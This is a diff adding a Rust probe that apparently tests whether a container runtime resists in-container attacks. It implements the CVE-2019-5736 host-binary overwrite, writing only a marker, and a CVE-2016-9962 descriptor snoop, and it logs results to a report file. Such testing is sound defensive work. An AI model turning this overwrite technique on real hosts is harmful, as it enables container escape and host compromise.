@@ -1,0 +1,87 @@
+//! What a hostile process does inside a container, until `/tmp/stop` is there:
+//! it looks at every process that comes by and is not of the container's own
+//! programs. What it achieved goes into a file, one line a deed.
+
+use std::collections::BTreeSet;
+use std::fs::{self, File};
+use std::io::Write;
+use std::os::fd::AsRawFd;
+use std::path::Path;
+
+/// Programs of the root file system: whose they are is no secret.
+const OWN: [&str; 3] = ["/probe", "/bin/busybox", "/trampoline"];
+
+fn stopped() -> bool {
+    Path::new("/tmp/stop").exists()
+}
+
+/// The other processes as they are now.
+fn others() -> impl Iterator<Item = String> {
+    let own = std::process::id().to_string();
+    let names = fs::read_dir("/proc").into_iter().flatten().flatten();
+    let names = names.map(|entry| entry.file_name().to_string_lossy().into_owned());
+    names.filter(move |name| *name != own && name.bytes().all(|byte| byte.is_ascii_digit()))
+}
+
+fn is_own(link: &Path) -> bool {
+    OWN.iter().any(|own| link == Path::new(own))
+}
+
+/// CVE-2019-5736: holds the program of whoever enters, and writes into it once
+/// nobody executes it any more.
+pub fn overwrite(report: &str) {
+    let mut report = File::create(report).expect("create the report");
+    let mut held: Vec<File> = Vec::new();
+    let mut seen = BTreeSet::new();
+    let (mut tries, mut last) = (0, false);
+    while !last {
+        last = stopped();
+        for pid in others() {
+            let exe = format!("/proc/{pid}/exe");
+            let Ok(link) = fs::read_link(&exe) else { continue };
+            if is_own(&link) || seen.contains(&pid) {
+                continue;
+            }
+            if let Ok(file) = File::open(&exe) {
+                seen.insert(pid);
+                held.push(file);
+            }
+        }
+        held.truncate(40);
+        for file in &held {
+            tries += 1;
+            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
+            if let Ok(mut file) = File::options().write(true).open(path) {
+                let _ = file.write_all(b"#!/owned\n");
+                writeln!(report, "written").expect("report");
+            }
+        }
+    }
+    writeln!(report, "seen {} tries {tries}", seen.len()).expect("report");
+}
+
+/// CVE-2016-9962: looks at the descriptors of whoever enters; a payload has the
+/// standard three.
+pub fn snoop(report: &str) {
+    let mut report = File::create(report).expect("create the report");
+    let mut seen = BTreeSet::new();
+    while !stopped() {
+        for pid in others() {
+            for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
+                let number = entry.file_name().to_string_lossy().into_owned();
+                let more = number.parse::<u32>().is_ok_and(|number| number > 2);
+                if more && let Ok(link) = fs::read_link(entry.path()) {
+                    writeln!(report, "descriptor {number} {}", link.display()).expect("report");
+                }
+            }
+            match fs::read_link(format!("/proc/{pid}/exe")) {
+                Ok(link) if !is_own(&link) => {
+                    writeln!(report, "program {}", link.display()).expect("report");
+                }
+                _ => {}
+            }
+            seen.insert(pid);
+        }
+    }
+    writeln!(report, "seen {}", seen.len()).expect("report");
+}
